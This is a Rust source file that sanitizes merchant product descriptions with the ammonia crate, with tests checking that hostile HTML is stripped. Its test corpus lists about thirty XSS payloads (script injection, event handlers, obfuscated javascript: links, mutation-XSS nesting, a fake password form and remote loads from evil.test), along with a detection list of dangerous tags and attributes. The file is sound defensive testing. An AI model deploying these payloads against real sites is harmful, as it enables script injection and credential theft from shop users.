//! Descriptions: HTML that can do no harm in the shop's pages.

use std::collections::HashSet;

/// Longest description, in bytes once sanitized.
pub(crate) const LONGEST: usize = 64 * 1024;

/// HTML without scripts, styles, forms, frames, remote pictures and event handlers.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Html(String);

/// Text with a little structure; pictures of a product are its media, not part of its text.
const TAGS: [&str; 24] = [
    "a",
    "b",
    "blockquote",
    "br",
    "caption",
    "code",
    "em",
    "h2",
    "h3",
    "h4",
    "hr",
    "i",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "ul",
];

impl Html {
    /// Keeps what is harmless. The same text always gives the same HTML, and HTML from here stays as it is.
    pub(crate) fn sanitize(text: &str) -> Self {
        let mut cleaner = ammonia::Builder::default();
        cleaner
            .tags(TAGS.into_iter().chain(["th", "thead", "tr", "u"]).collect::<HashSet<_>>())
            .generic_attributes(HashSet::new())
            .url_schemes(HashSet::from(["https", "http", "mailto"]))
            .url_relative(ammonia::UrlRelative::Deny)
            .link_rel(Some("nofollow noopener noreferrer"));
        Self(cleaner.clean(text.trim()).to_string().trim().to_owned())
    }

    /// Takes HTML that was sanitized before it was stored.
    pub(crate) const fn stored(html: String) -> Self {
        Self(html)
    }

    /// The HTML as text.
    pub(crate) fn as_str(&self) -> &str {
        &self.0
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    /// After the XSS Filter Evasion Cheat Sheet (OWASP) and the mXSS cases of ammonia and of `DOMPurify`.
    const HOSTILE: [&str; 30] = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<svg onload=alert(1)><circle r=1></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"//evil.test\">x</a>",
        "<p onclick=\"alert(1)\" onmouseover=alert(1)>x</p>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<style>@import 'https://evil.test/x.css';</style>",
        "<iframe src=\"https://evil.test\"></iframe>",
        "<object data=\"https://evil.test/x.swf\"></object><embed src=x>",
        "<form action=\"https://evil.test\"><input name=password><button>Sign in</button></form>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.test\">",
        "<base href=\"https://evil.test/\">",
        "<link rel=stylesheet href=\"https://evil.test/x.css\">",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<p id=\"checkout\" class=\"price\" name=\"csrf\">clobbered</p>",
        "<template><script>alert(1)</script></template><plaintext>\u{0}<script>",
    ];

    /// What must not be left of a hostile text: any tag or attribute that loads, runs or pretends.
    fn harm(html: &str) -> Option<&'static str> {
        let lower = html.to_lowercase();
        let tags = [
            "<script",
            "<img",
            "<svg",
            "<math",
            "<style",
            "<iframe",
            "<object",
            "<embed",
            "<form",
            "<input",
            "<meta",
            "<base",
            "<link",
            "<template",
            "<noscript",
            "<!--",
            "<plaintext",
        ];
        let within = |needle: &&str| {
            lower
                .split('<')
                .skip(1)
                .any(|tag| tag.split('>').next().is_some_and(|inside| inside.contains(*needle)))
        };
        let attributes = [
            " on",
            " style=",
            " id=",
            " class=",
            " name=",
            "javascript:",
            "vbscript:",
            "data:",
            "evil.test",
        ];
        tags.into_iter()
            .find(|tag| lower.contains(tag))
            .or_else(|| attributes.into_iter().find(within))
    }

    #[test]
    fn nothing_hostile_is_left() {
        for text in HOSTILE {
            let html = Html::sanitize(text);

            assert_eq!(harm(html.as_str()), None, "{text} became {}", html.as_str());
        }
    }

    #[test]
    fn the_corpus_is_hostile() {
        // The others hide what they are about in entities and control characters.
        assert!(HOSTILE.iter().filter(|text| harm(text).is_some()).count() > 25);
    }

    #[test]
    fn what_a_merchant_writes_stays() {
        let text = "<p>14k <b>gold</b></p><ul><li>Width, 0.3\"</li></ul>";

        assert_eq!(Html::sanitize(text).as_str(), text);
        assert_eq!(
            Html::sanitize("<a href=\"https://example.org\" target=_blank>care</a>").as_str(),
            "<a href=\"https://example.org\" rel=\"nofollow noopener noreferrer\">care</a>"
        );
        assert_eq!(Html::sanitize(" a < b & c ").as_str(), "a &lt; b &amp; c");
    }

    proptest! {
        #[test]
        fn html_that_is_clean_stays_as_it_is(text in "[<>a-z/=\" !\\-&;]{0,60}") {
            let once = Html::sanitize(&text);

            prop_assert_eq!(Html::sanitize(once.as_str()), once);
        }
    }
}
